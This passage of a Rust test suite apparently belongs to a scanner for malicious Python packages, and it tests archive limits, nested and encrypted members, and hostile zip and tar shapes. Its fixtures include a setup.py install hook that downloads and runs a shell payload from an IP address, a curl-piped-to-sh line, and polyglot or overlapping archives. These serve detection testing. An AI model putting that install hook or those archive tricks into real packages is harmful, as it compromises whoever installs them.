    one_line.extend(std::iter::repeat_n(b'x', 700_000));
    one_line.extend_from_slice(b" subprocess\n");
    let cases = [
        ("a one-line data file", "demo/data/blob.txt", vec![], vec![(1, 100_002), (1, 800_014)]),
        ("a one-line module stays cut", "demo/blob.py", vec!["demo/blob.py"], vec![]),
    ];
    for (case, path, limited, hits) in cases {
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &zip_of(&[(path, &one_line)]));
        assert_eq!(paths(&r, "anomaly.limit-exceeded"), limited, "{case}");
        let got: Vec<(u32, u32)> = r
            .findings
            .iter()
            .filter(|f| f.detector == "execution.test-process")
            .flat_map(|f| f.evidence.iter().filter_map(|e| Some((e.line?, e.column?))))
            .collect();
        assert_eq!(got, hits, "{case}: each hit once, at its line and column");
    }
    // A hit that straddles a byte cut is seen whole in the next window, and only once.
    for at in [99_990usize, 100_000, 116_380, 116_390] {
        let mut t = vec![b'x'; at];
        t.extend_from_slice(b" subprocess ");
        t.extend(std::iter::repeat_n(b'x', 300_000));
        t.push(b'\n');
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &zip_of(&[("demo/data/b.txt", &t)]));
        assert!(paths(&r, "anomaly.limit-exceeded").is_empty(), "hit at {at}");
        let f = r.findings.iter().find(|f| f.detector == "execution.test-process").expect("straddling hit");
        let got: Vec<_> = f.evidence.iter().map(|e| (e.line, e.column)).collect();
        assert_eq!(got, [(Some(1), Some(at as u32 + 2))], "hit at {at}");
    }
    // Every line is seen once across the cuts: 30,000 hits, none lost, none counted twice.
    let mut dense = Vec::new();
    for i in 0..30_000 {
        dense.extend_from_slice(format!("subprocess {i:06}\n").as_bytes());
    }
    let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &zip_of(&[("demo/data/dense.txt", &dense)]));
    let f = r.findings.iter().find(|f| f.detector == "execution.test-process").expect("dense");
    assert!(f.message.ends_with("and 29999 more locations"), "{}", f.message);
    assert!(paths(&r, "anomaly.limit-exceeded").is_empty());
}

#[test]
fn an_unreadable_nested_archive_is_its_own_finding() {
    let xz = b"\xfd7zXZ\x00\x00\x04 not really a tarball".to_vec();
    let bad_zip = b"PK\x03\x04 truncated zip".to_vec();
    let sdist = tar_gz(&[
        T::File(b"demo-1.0/PKG-INFO", &wheel_metadata("demo", "1.0")),
        T::File(b"demo-1.0/tests/fixture.tar.gz", &xz),
        T::File(b"demo-1.0/vendor/x-1.0-py3-none-any.whl", &bad_zip),
    ]);
    let (scanner, _) = test_scanner(Limits::default());
    let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &sdist);
    assert!(paths(&r, "anomaly.unreadable-archive").is_empty(), "{:#?}", r.findings);
    assert_eq!(
        paths(&r, "anomaly.nested-archive-unreadable"),
        ["demo-1.0/tests/fixture.tar.gz", "demo-1.0/vendor/x-1.0-py3-none-any.whl"]
    );
    let meta = super::catalog().into_iter().find(|m| m.id == "anomaly.nested-archive-unreadable").expect("catalog");
    assert_eq!(meta.severity, Severity::Medium);
}

/// An encrypted member of a nested archive (a test fixture zip protected by a password) is
/// opaque like an archive the engine cannot open: Medium, and the scan stays complete. The
/// same member encrypted in the artifact's own zip is still fail-closed.
/// Name, artifact filename, bytes, the finding expected, its path, whether the scan is complete.
type EncryptedCase = (&'static str, &'static str, Vec<u8>, &'static str, &'static str, bool);

#[test]
fn an_encrypted_member_of_a_nested_archive_is_not_an_incomplete_scan() {
    let (scanner, _) = test_scanner(Limits::default());
    let fixture = mark_encrypted(zip_of(&[("fake-repo/cookiecutter.json", b"{}\n")]));
    let cases: [EncryptedCase; 3] = [
        (
            "a password-protected test fixture in an sdist",
            "demo-1.0.tar.gz",
            tar_gz(&[
                T::File(b"demo-1.0/PKG-INFO", &wheel_metadata("demo", "1.0")),
                T::File(b"demo-1.0/tests/files/protected.zip", &fixture),
            ]),
            "anomaly.nested-archive-unreadable",
            "demo-1.0/tests/files/protected.zip!/fake-repo/cookiecutter.json",
            true,
        ),
        (
            "a password-protected zip inside a wheel's package",
            "demo-1.0-py3-none-any.whl",
            zip_of(&[("demo/data/blob.zip", &fixture)]),
            "anomaly.nested-archive-unreadable",
            "demo/data/blob.zip!/fake-repo/cookiecutter.json",
            true,
        ),
        (
            "the wheel's own member encrypted stays fail-closed",
            "demo-1.0-py3-none-any.whl",
            mark_encrypted(zip_of(&[("demo/__init__.py", b"x = 1\n")])),
            "anomaly.encrypted-member",
            "demo/__init__.py",
            false,
        ),
    ];
    for (name, filename, bytes, id, path, complete) in cases {
        let r = scan_bytes(&scanner, filename, &bytes);
        assert_eq!(paths(&r, id), [path], "{name}: {:#?}", r.findings);
        assert_eq!(r.complete(), complete, "{name}: {:?}", r.incomplete_reason());
    }
}

// ---- xz, streams that are not tars, incomplete scans ----

fn tar_xz(entries: &[T<'_>]) -> Vec<u8> {
    let tar = tar_of(entries);
    let mut enc = xz2::write::XzEncoder::new(Vec::new(), 1);
    enc.write_all(&tar).expect("xz");
    enc.finish().expect("xz")
}

/// A compressed stream of `repeat` copies of `chunk`, cheaply: one compressed member of
/// `chunk`, concatenated (gzip, bzip2 and xz all decode concatenated members as one stream).
fn repeated(format: &str, chunk: &[u8], repeat: usize) -> Vec<u8> {
    let one = compress(format, chunk);
    let mut out = Vec::with_capacity(one.len() * repeat);
    for _ in 0..repeat {
        out.extend_from_slice(&one);
    }
    out
}

fn compress(format: &str, data: &[u8]) -> Vec<u8> {
    match format {
        "gz" => {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            e.write_all(data).expect("gz");
            e.finish().expect("gz")
        }
        "bz2" => {
            let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
            e.write_all(data).expect("bz2");
            e.finish().expect("bz2")
        }
        "xz" => {
            let mut e = xz2::write::XzEncoder::new(Vec::new(), 6);
            e.write_all(data).expect("xz");
            e.finish().expect("xz")
        }
        other => panic!("unknown format {other}"),
    }
}

/// A tar header block for a regular file of `size` bytes.
fn tar_header(name: &str, size: u64) -> Vec<u8> {
    let mut h = tar::Header::new_gnu();
    h.set_path(name).expect("path");
    h.set_size(size);
    h.set_mode(0o644);
    h.set_entry_type(tar::EntryType::Regular);
    h.set_cksum();
    h.as_bytes().to_vec()
}

/// One member as tar blocks: header, data, zero padding to 512.
fn tar_member(name: &str, data: &[u8]) -> Vec<u8> {
    let mut out = tar_header(name, data.len() as u64);
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

const EVIL_SETUP: &[u8] = b"import os, urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        urllib.request.urlretrieve('http://203.0.113.5/payload.sh', '/tmp/p.sh')
        os.system('sh /tmp/p.sh')
        install.run(self)

setup(name='demo', version='1.0', cmdclass={'install': PostInstall})
";

fn shipped_policy() -> crate::policy::Policy {
    let known: Vec<&str> = super::catalog().iter().map(|m| m.id).collect();
    crate::policy::Policy::from_str_with_catalog("policy.yaml", include_str!("../../policy.yaml"), &known)
        .unwrap_or_else(|e| panic!("{e}"))
}

fn verdict_for(r: &ScanReport) -> crate::model::Verdict {
    let facts = crate::model::ArtifactFacts {
        project: r.project.clone().unwrap_or_default(),
        version: r.version.clone(),
        filename: r.filename.clone(),
        sha256: "a".repeat(64),
        kind: r.kind,
        size: 1,
        upload_time: Some("2020-01-01T00:00:00Z".into()),
        path: Default::default(),
        licence: Some(r.licence.clone()),
        new_in_version: None,
        established: None,
    };
    shipped_policy().evaluate(&facts, &r.findings, time::OffsetDateTime::now_utc())
}

/// (detector, path) of every finding and evidence item, in order.
fn located(r: &ScanReport) -> Vec<(String, String)> {
    r.findings.iter().flat_map(|f| f.evidence.iter().map(|e| (f.detector.clone(), e.path.clone()))).collect()
}

#[test]
fn xz_sdists_read_like_gzip_ones() {
    let entries = [
        T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
        T::File(b"demo-1.0/setup.py", EVIL_SETUP),
    ];
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let gz = scan_bytes(&scanner, "demo-1.0.tar.gz", &tar_gz(&entries));
    assert!(!gz.findings.is_empty(), "the malicious setup.py is found in the .tar.gz");
    assert!(gz.complete());
    assert_eq!(verdict_for(&gz).decision, crate::model::Decision::Block, "blocked on its own");
    let inner = tar_xz(&entries);
    let cases: Vec<(&str, &str, Vec<u8>, &str)> = vec![
        ("tar.xz sdist", "demo-1.0.tar.xz", tar_xz(&entries), ""),
        ("tar.bz2 sdist", "demo-1.0.tar.bz2", tar_bz2(&entries), ""),
        (
            "tar.xz nested in a tar.gz",
            "demo-1.0.tar.gz",
            tar_gz(&[T::File(b"demo-1.0/vendor/demo-1.0.tar.xz", &inner)]),
            "demo-1.0/vendor/demo-1.0.tar.xz!/",
        ),
    ];
    for (case, filename, bytes, prefix) in cases {
        let r = scan_bytes(&scanner, filename, &bytes);
        // Nested, package-level findings (metadata of the artifact itself) differ: compare
        // what is found in setup.py.
        let in_setup = |v: Vec<(String, String)>| -> Vec<(String, String)> {
            v.into_iter()
                .filter(|(d, p)| prefix.is_empty() || (p.ends_with("setup.py") && !d.starts_with("metadata.")))
                .collect()
        };
        let want: Vec<(String, String)> =
            in_setup(located(&gz)).into_iter().map(|(d, p)| (d, format!("{prefix}{p}"))).collect();
        let got = in_setup(located(&r));
        assert_eq!(got, want, "{case}: same findings as the .tar.gz");
        assert!(r.complete(), "{case}: {:?}", r.incomplete_reason());
        assert_eq!(r.stats.text_members, gz.stats.text_members, "{case}");
    }
}

#[test]
fn compressed_streams_that_are_not_tars_are_never_clean() {
    let zeros = vec![0u8; 1 << 20];
    let junk = vec![b'A'; 1 << 20];
    let mut tar_then_junk = tar_of(&[T::File(b"demo-1.0/setup.py", b"x = 1\n")]);
    tar_then_junk.extend_from_slice(&junk);
    let mut bad_cksum = tar_of(&[T::File(b"demo-1.0/setup.py", b"x = 1\n")]);
    bad_cksum[148] = b'7';
    let mut v7 = tar_of(&[T::File(b"demo-1.0/setup.py", b"x = 1\n")]);
    v7[257..265].copy_from_slice(&[0; 8]);
    // (case, filename, bytes, finding, reason code of the verdict under the shipped policy)
    let cases: Vec<(&str, &str, Vec<u8>, &str, &str)> = vec![
        (
            "1 GiB of zeros, gzip",
            "x-1.0.tar.gz",
            repeated("gz", &zeros, 1024),
            "anomaly.trailing-data",
            "fail-closed:scan-incomplete",
        ),
        (
            "1 GiB of zeros, bzip2",
            "x-1.0.tar.bz2",
            repeated("bz2", &zeros, 1024),
            "anomaly.trailing-data",
            "fail-closed:scan-incomplete",
        ),
        (
            "1 GiB of zeros, xz",
            "x-1.0.tar.xz",
            repeated("xz", &zeros, 1024),
            "anomaly.trailing-data",
            "fail-closed:scan-incomplete",
        ),
        (
            "1 GiB of 'A', gzip",
            "x-1.0.tar.gz",
            repeated("gz", &junk, 1024),
            "anomaly.unreadable-archive",
            "fail-closed:scan-error",
        ),
        (
            "python source, gzip",
            "x-1.0.tar.gz",
            compress("gz", EVIL_SETUP),
            "anomaly.unreadable-archive",
            "fail-closed:scan-error",
        ),
        (
            "a tar, then junk",
            "x-1.0.tar.gz",
            compress("gz", &tar_then_junk),
            "anomaly.trailing-data",
            "fail-closed:scan-incomplete",
        ),
        (
            "first header checksum broken",
            "x-1.0.tar.xz",
            compress("xz", &bad_cksum),
            "anomaly.unreadable-archive",
            "fail-closed:scan-error",
        ),
        (
            "no ustar magic",
            "x-1.0.tar.bz2",
            compress("bz2", &v7),
            "anomaly.unreadable-archive",
            "fail-closed:scan-error",
        ),
        (
            "a plain tar, then junk",
            "x-1.0.tar",
            tar_then_junk.clone(),
            "anomaly.trailing-data",
            "fail-closed:scan-incomplete",
        ),
    ];
    let (scanner, _) = test_scanner(Limits::default());
    for (case, filename, bytes, id, code) in cases {
        let start = std::time::Instant::now();
        let r = scan_bytes(&scanner, filename, &bytes);
        assert!(start.elapsed() < std::time::Duration::from_secs(30), "{case}: bounded time");
        assert_eq!(paths(&r, id), [filename], "{case}: {:#?}", r.findings);
        let v = verdict_for(&r);
        assert_eq!(v.decision, crate::model::Decision::Block, "{case}");
        assert_eq!(v.reasons[0].code.to_string(), code, "{case}: {:#?}", v.reasons);
        assert!(r.stats.uncompressed_bytes <= Limits::default().max_total_bytes, "{case}");
    }
    // A well-formed tar with record padding (zeros) after its end is clean.
    let mut padded = tar_of(&[T::File(b"demo-1.0/setup.py", b"x = 1\n")]);
    padded.resize(padded.len() + 10240, 0);
    let r = scan_bytes(&scanner, "x-1.0.tar.gz", &compress("gz", &padded));
    assert!(r.findings.iter().all(|f| f.category != Category::Anomaly), "{:#?}", r.findings);
    assert!(r.complete());
}

/// A `.tar.gz` of `before` (name, size, byte) members made of one repeated byte, then the
/// malicious setup.py. Large members cost little: the gzip stream is made of concatenated
/// members, one per MiB, each compressed once.
fn tar_gz_with_filler(fillers: &[(&str, u64, u8)], extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for &(name, size, byte) in fillers {
        out.extend(compress("gz", &tar_header(name, size)));
        let mib = vec![byte; 1 << 20];
        let whole = compress("gz", &mib);
        for _ in 0..size >> 20 {
            out.extend_from_slice(&whole);
        }
        let rest = (size % (1 << 20)) as usize;
        let mut tail = vec![byte; rest];
        tail.resize(tail.len().div_ceil(512) * 512, 0);
        out.extend(compress("gz", &tail));
    }
    let mut end = Vec::new();
    for (name, data) in extra {
        end.extend(tar_member(name, data));
    }
    end.extend_from_slice(&[0u8; 1024]);
    out.extend(compress("gz", &end));
    out
}

/// `n` empty members, then setup.py, as a tar.gz or a zip.
fn many_members(n: usize, zip: bool) -> Vec<u8> {
    let names: Vec<String> = (0..n).map(|i| format!("demo-1.0/e/{i:06}")).collect();
    if zip {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        for name in &names {
            w.start_file(name.as_str(), opts).expect("start_file");
        }
        w.start_file("demo-1.0/setup.py", opts).expect("start_file");
        w.write_all(EVIL_SETUP).expect("write");
        return w.finish().expect("finish").into_inner();
    }
    let mut tar = Vec::new();
    for name in &names {
        tar.extend(tar_member(name, b""));
    }
    tar.extend(tar_member("demo-1.0/setup.py", EVIL_SETUP));
    tar.extend_from_slice(&[0u8; 1024]);
    compress("gz", &tar)
}

/// Text padding that compresses about as well as real source (well under the bomb ratio).
fn padded_text(len: usize) -> Vec<u8> {
    let mut x: u32 = 0x9e37_79b9;
    let mut out = Vec::with_capacity(len + 64);
    while out.len() < len {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        out.extend_from_slice(format!("# padding {x:08x} {:08x}\n", x.rotate_left(7)).as_bytes());
    }
    out
}

#[test]
fn content_past_a_limit_is_blocked_naming_the_limit() {
    let small_text = Limits { max_text_bytes: 100_000, ..Limits::default() };
    let padding = padded_text(200_000);
    let mut padded_setup = padding.clone();
    padded_setup.extend_from_slice(EVIL_SETUP);
    let zeros_big = vec![0u8; 80 << 20];
    // (case, limits, filename, archive, limit named in the reason, setup.py still found)
    #[allow(clippy::type_complexity)]
    let cases: Vec<(&str, Limits, &str, Box<dyn Fn() -> Vec<u8>>, &str, bool)> = vec![
        (
            "300 MB zero member before setup.py (tar.gz, default limits)",
            Limits::default(),
            "demo-1.0.tar.gz",
            Box::new(|| {
                tar_gz_with_filler(&[("demo-1.0/data.bin", 300_000_000, 0)], &[("demo-1.0/setup.py", EVIL_SETUP)])
            }),
            "max_ratio",
            false,
        ),
        (
            "80 MiB zero member before setup.py (zip: the member is skipped, the walk goes on)",
            Limits::default(),
            "demo-1.0.zip",
            Box::new(|| zip_of(&[("demo-1.0/data.bin", &zeros_big), ("demo-1.0/setup.py", EVIL_SETUP)])),
            "max_ratio",
            true,
        ),
        (
            "100,001 empty members before setup.py (zip, default limits)",
            Limits::default(),
            "demo-1.0.zip",
            Box::new(|| many_members(100_001, true)),
            "max_members",
            false,
        ),
        (
            "101 empty members before setup.py (tar.gz, max_members 100)",
            Limits { max_members: 100, ..Limits::default() },
            "demo-1.0.tar.gz",
            Box::new(|| many_members(101, false)),
            "max_members",
            false,
        ),
        (
            "33 MiB of padding inside setup.py before the payload (text cap 100 kB)",
            small_text.clone(),
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/setup.py", &padded_setup)])),
            "max_text_bytes",
            false,
        ),
        (
            "a padding member over the text cap before setup.py (tar.gz: skipped, the walk goes on)",
            small_text.clone(),
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/aaa.py", &padding), T::File(b"demo-1.0/setup.py", EVIL_SETUP)])),
            "max_text_bytes",
            true,
        ),
        (
            "33 MiB of padding inside setup.py (real size, default limits)",
            Limits::default(),
            "demo-1.0.tar.gz",
            Box::new(|| {
                let mut text = padded_text(33 << 20);
                text.extend_from_slice(EVIL_SETUP);
                tar_gz(&[T::File(b"demo-1.0/setup.py", &text)])
            }),
            "max_text_bytes",
            false,
        ),
        (
            "total over max_total_bytes",
            Limits { max_total_bytes: 150_000, ..Limits::default() },
            "demo-1.0.tar.gz",
            Box::new(|| {
                tar_gz(&[
                    T::File(b"demo-1.0/aaa.py", &padding[..120_000]),
                    T::File(b"demo-1.0/setup.py", &padded_setup),
                ])
            }),
            "max_total_bytes",
            false,
        ),
    ];
    for (case, limits, filename, build, limit, setup_found) in cases {
        let bytes = build();
        let scanner = Scanner::new(limits.clone()).with_threads(1);
        let start = std::time::Instant::now();
        let r = scan_bytes(&scanner, filename, &bytes);
        let took = start.elapsed();
        assert!(took < std::time::Duration::from_secs(60), "{case}: took {took:?}");
        assert!(r.stats.uncompressed_bytes <= limits.max_total_bytes, "{case}: {:?}", r.stats);
        assert!(r.stats.members <= limits.max_members, "{case}: {:?}", r.stats);
        assert!(!r.complete(), "{case}: marked incomplete");
        let why = r.incomplete_reason().expect("reason");
        assert!(why.contains(limit), "{case}: the reason names {limit}: {why}");
        let json: serde_json::Value = serde_json::from_str(&super::render_json(&r)).expect("json");
        assert_eq!(json["complete"], false, "{case}");
        assert!(json["incomplete_reason"].as_str().is_some_and(|s| s.contains(limit)), "{case}");
        let found = r.findings.iter().any(|f| {
            f.evidence.iter().any(|e| e.path.ends_with("setup.py") && e.line.is_some())
                && f.category != Category::Anomaly
        });
        assert_eq!(found, setup_found, "{case}: setup.py findings: {:#?}", r.findings);
        let v = verdict_for(&r);
        assert_eq!(v.decision, crate::model::Decision::Block, "{case}: {:#?}", v.reasons);
        assert_eq!(
            v.reasons[0].code,
            crate::model::ReasonCode::FailClosed("scan-incomplete".into()),
            "{case}: {:#?}",
            v.reasons
        );
        assert!(v.reasons[0].message.contains(limit), "{case}: {}", v.reasons[0].message);
    }
}

#[test]
fn a_large_zero_member_in_a_tar_is_walked_in_bounded_memory() {
    let bytes = tar_gz_with_filler(&[("demo-1.0/data.bin", 300_000_000, 0)], &[("demo-1.0/setup.py", EVIL_SETUP)]);
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("artifact");
    std::fs::write(&path, &bytes).expect("write");
    let limits = Limits::default();
    let mut walker = super::archive::Walker::new(&limits, Recorder::default());
    walker.walk_file(&path, "demo-1.0.tar.gz");
    assert!(walker.peak_buffer < 1 << 20, "buffers grew to {} bytes", walker.peak_buffer);
    assert_eq!(walker.visitor.anomalies, [("anomaly.archive-bomb", "demo-1.0.tar.gz".to_string())]);
}

/// Records, for every member it is called on, the address of the member's lexed spans
/// and of one regex's ranges: detectors sharing a member must see the same ones.
struct Peek(Arc<std::sync::Mutex<Vec<(String, usize, usize)>>>);

static PEEK: DetectorMeta = DetectorMeta {
    id: "execution.test-peek",
    revision: 1,
    title: "Peeks.",
    category: Category::Execution,
    severity: Severity::Low,
    description: "Test detector that records what it was handed.",
};

static DIGITS: std::sync::LazyLock<regex::Regex> =
    std::sync::LazyLock::new(|| regex::Regex::new(r"\d+").expect("digits"));

impl Detector for Peek {
    fn meta(&self) -> &'static DetectorMeta {
        &PEEK
    }
    fn interest(&self) -> Interest {
        Interest::AllText
    }
    fn scan_text(&self, file: &TextFile<'_>, _hits: &mut Hits) {
        let src = file.source();
        let spans = src.spans().as_ptr() as usize;
        let ranges = std::rc::Rc::as_ptr(&src.find_ranges(&DIGITS)) as *const u8 as usize;
        self.0.lock().expect("lock").push((file.path.to_string(), spans, ranges));
    }
}

#[test]
fn every_detector_of_a_member_shares_one_lexing_pass_and_one_regex_search() {
    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
    let detectors: Vec<Box<dyn Detector>> = vec![Box::new(Peek(seen.clone())), Box::new(Peek(seen.clone()))];
    let scanner = Scanner::with_detectors(Limits::default(), detectors).with_threads(1);
    let bytes = zip_of(&[("demo/a.py", b"x = '1'  # 2\n"), ("demo/b.py", b"y = '3'  # 4\n")]);
    scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
    let seen = seen.lock().expect("lock");
    assert_eq!(seen.len(), 4, "two detectors on two members: {seen:?}");
    assert_eq!(seen[0], seen[1], "the first member was lexed and searched once");
    assert_eq!(seen[2], seen[3], "the second member was lexed and searched once");
    assert_eq!((seen[0].0.as_str(), seen[2].0.as_str()), ("demo/a.py", "demo/b.py"));
}

/// The definition the prefilter must meet: a detector is selected when it reads every text
/// member or one of its literals is a substring of the text.
fn by_definition(detectors: &[Box<dyn Detector>], text: &str) -> Vec<usize> {
    (0..detectors.len())
        .filter(|&i| match detectors[i].interest() {
            Interest::PackageOnly => false,
            Interest::AllText => true,
            Interest::Literals(lits) => {
                lits.iter().all(|l| l.is_empty()) || lits.iter().any(|l| !l.is_empty() && text.contains(l))
            }
        })
        .collect()
}

#[test]
fn prefilter_matches_the_definition_across_stream_boundaries() {
    let detectors = super::detectors::all();
    let pre = super::engine::Prefilter::new(&detectors);
    let (streams, split) = pre.streams().expect("the registered literals build one automaton");
    let mut selected = vec![false; detectors.len()];
    let mut check = |case: &str, text: &str| {
        pre.select(text, &mut selected);
        let got: Vec<usize> = (0..detectors.len()).filter(|&i| selected[i]).collect();
        assert_eq!(got, by_definition(&detectors, text), "{case}");
    };
    let lits: Vec<&str> = detectors
        .iter()
        .filter_map(|d| match d.interest() {
            Interest::Literals(l) => Some(l),
            _ => None,
        })
        .flatten()
        .copied()
        .filter(|l| !l.is_empty())
        .collect();
    // Shorter than the four-stream threshold, and long enough for four streams.
    let short = "q".repeat(split - 1);
    let long = "q".repeat(split * 3 + 7);
    for (name, filler) in [("one stream", &short), ("four streams", &long)] {
        let n = filler.len();
        let q = n / streams;
        check(&format!("{name}: no literal"), filler);
        for lit in &lits {
            let len = lit.len();
            // At the start, at the end, and across each stream boundary: ending just before it,
            // ending on its first byte, straddling it, starting on it.
            let mut at = vec![0, n - len];
            for k in 1..streams {
                at.extend([k * q - len, k * q + 1 - len, k * q - len / 2, k * q]);
            }
            for a in at {
                let text = format!("{}{lit}{}", &filler[..a], &filler[a + len..]);
                check(&format!("{name}: {lit:?} at {a} of {n}"), &text);
            }
        }
    }
    check("real code", "import subprocess, os\nos.system('curl http://1.2.3.4/x | sh')\n");
}

/// Dependencies inside `scan` run one way: `parallel` → `engine` → `detector` →
/// `source`, and detectors depend on the contract, never the reverse. Checked on
/// the code (comments ignored) so a cycle cannot creep back in.
#[test]
fn scan_modules_depend_one_way() {
    let cases: [(&str, &str, &[&str]); 3] = [
        ("engine", include_str!("engine.rs"), &["parallel::", "detectors::"]),
        ("detector", include_str!("detector.rs"), &["engine::", "parallel::", "detectors::"]),
        ("source", include_str!("source.rs"), &["engine::", "parallel::", "detectors::", "detector::"]),
    ];
    for (module, text, forbidden) in cases {
        for line in text.lines().map(str::trim).filter(|l| !l.starts_with("//")) {
            for f in forbidden {
                assert!(!line.contains(f), "{module} must not use {f}: {line}");
            }
        }
    }
}

// ---- hostile archives ----

/// One member of a hand-built zip: the local and central headers may disagree.
struct Raw<'a> {
    local_name: &'a [u8],
    central_name: &'a [u8],
    data: &'a [u8],
    /// General-purpose flags on both headers (bit 0: encrypted).
    flags: u16,
    /// The central entry points at this earlier member's local header instead of its own.
    points_at: Option<usize>,
    /// The central entry claims this uncompressed size instead of the real one.
    central_size: Option<u32>,
}

impl<'a> Raw<'a> {
    fn new(name: &'a str, data: &'a [u8]) -> Self {
        Raw {
            local_name: name.as_bytes(),
            central_name: name.as_bytes(),
            data,
            flags: 0,
            points_at: None,
            central_size: None,
        }
    }
}

/// A stored zip built byte by byte (the zip crate refuses to write hostile ones).
fn raw_zip(entries: &[Raw<'_>]) -> Vec<u8> {
    let (mut out, mut central, mut offsets) = (Vec::new(), Vec::new(), Vec::new());
    for e in entries {
        let mut crc = flate2::Crc::new();
        crc.update(e.data);
        let (crc, len) = (crc.sum(), e.data.len() as u32);
        offsets.push(out.len() as u32);
        out.extend_from_slice(b"PK\x03\x04");
        for v in [20u16, e.flags, 0, 0, 0x21] {
            out.extend_from_slice(&v.to_le_bytes());
        }
        for v in [crc, len, len] {
            out.extend_from_slice(&v.to_le_bytes());
        }
        out.extend_from_slice(&(e.local_name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(e.local_name);
        out.extend_from_slice(e.data);
        let offset = e.points_at.map_or(*offsets.last().expect("pushed"), |i| offsets[i]);
        central.extend_from_slice(b"PK\x01\x02");
        for v in [20u16, 20, e.flags, 0, 0, 0x21] {
            central.extend_from_slice(&v.to_le_bytes());
        }
        for v in [crc, len, e.central_size.unwrap_or(len)] {
            central.extend_from_slice(&v.to_le_bytes());
        }
        for v in [e.central_name.len() as u16, 0, 0, 0, 0] {
            central.extend_from_slice(&v.to_le_bytes());
        }
        central.extend_from_slice(&0u32.to_le_bytes());
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(e.central_name);
    }
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(b"PK\x05\x06");
    for v in [0u16, 0, entries.len() as u16, entries.len() as u16] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// Peak resident memory of this test process, in MiB (nextest runs each test in its own process).
fn peak_rss_mib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .map_or(0, |kb| kb / 1024)
}

/// The hostile-archive family: each one is scanned within its limits, in bounded memory,
/// and blocked by the shipped policy (nothing in it names these findings to accept them).
#[test]
fn hostile_archives_end_within_limits_and_are_blocked() {
    const BENIGN: &[u8] = b"VERSION = '1.0'\n";
    let metadata = wheel_metadata("demo", "1.0");
    let wheel_md = || Raw::new("demo-1.0.dist-info/METADATA", &metadata);
    let polyglot = |evil_in_zip: bool| {
        // A tar (what a tar reader sees) with a zip appended (what zipfile, and so pip for a
        // `.zip` sdist, sees: it finds the central directory from the end).
        let (tar_setup, zip_setup): (&[u8], &[u8]) =
            if evil_in_zip { (BENIGN, EVIL_SETUP) } else { (EVIL_SETUP, BENIGN) };
        let mut bytes = tar_of(&[T::File(b"demo-1.0/setup.py", tar_setup)]);
        bytes.extend(zip_with(&[("demo-1.0/setup.py", zip_setup)], zip::CompressionMethod::Stored));
        bytes
    };
    #[allow(clippy::type_complexity)]
    let cases: Vec<(&str, &str, Box<dyn Fn() -> Vec<u8>>)> = vec![
        (
            "overlapping zip entries: two central entries share one local header",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| {
                raw_zip(&[
                    Raw::new("demo/__init__.py", EVIL_SETUP),
                    Raw { points_at: Some(0), ..Raw::new("demo/other.py", EVIL_SETUP) },
                    wheel_md(),
                ])
            }),
        ),
        (
            "overlapping zip entries: many names over one member (quoted-overlap bomb shape)",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| {
                let names: Vec<String> = (0..200).map(|i| format!("demo/m{i:03}.py")).collect();
                let mut entries = vec![Raw::new("demo/m000.py", EVIL_SETUP)];
                entries.extend(names[1..].iter().map(|n| Raw { points_at: Some(0), ..Raw::new(n, EVIL_SETUP) }));
                entries.push(wheel_md());
                raw_zip(&entries)
            }),
        ),
        (
            "local and central names differ",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| {
                raw_zip(&[
                    Raw { central_name: b"demo/readme.txt", ..Raw::new("demo/__init__.py", EVIL_SETUP) },
                    wheel_md(),
                ])
            }),
        ),
        (
            "central size understates the member",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| {
                raw_zip(&[Raw { central_size: Some(4), ..Raw::new("demo/__init__.py", EVIL_SETUP) }, wheel_md()])
            }),
        ),
        (
            "encrypted member",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| raw_zip(&[Raw { flags: 1, ..Raw::new("demo/__init__.py", BENIGN) }, wheel_md()])),
        ),
        (
            "control characters in a zip member name",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| raw_zip(&[Raw::new("demo/\u{1b}[2K\rclean.py", BENIGN), wheel_md()])),
        ),
        (
            "newline in a tar member name",
            "demo-1.0.tar.gz",
            Box::new(|| tar_gz(&[T::File(b"demo-1.0/a\nsetup.py", BENIGN), T::File(b"demo-1.0/PKG-INFO", &metadata)])),
        ),
        (
            "non-UTF-8 zip member name",
            "demo-1.0-py3-none-any.whl",
            Box::new(|| {
                raw_zip(&[
                    Raw { local_name: b"demo/\xff\xfe.py", central_name: b"demo/\xff\xfe.py", ..Raw::new("", BENIGN) },
                    wheel_md(),
                ])
            }),
        ),
        (
